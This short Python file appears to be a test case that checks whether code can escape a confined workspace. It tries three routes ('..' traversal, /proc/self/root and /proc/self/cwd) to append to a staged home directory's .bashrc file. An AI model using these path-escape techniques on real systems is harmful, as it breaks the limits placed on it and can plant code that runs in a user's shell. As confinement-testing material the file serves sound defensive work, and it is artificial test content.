# name: write .bashrc by climbing out of the workspace
# line: 50
import os

from attack import STAGE, append, try_each

relative = os.path.relpath(STAGE["home"], os.getcwd())
try_each([
    ("..", lambda: append(f"{relative}/.bashrc")),
    ("/proc/self/root", lambda: append(f"/proc/self/root{STAGE['home']}/.bashrc")),
    ("/proc/self/cwd", lambda: append(f"/proc/self/cwd/{relative}/.bashrc")),
])
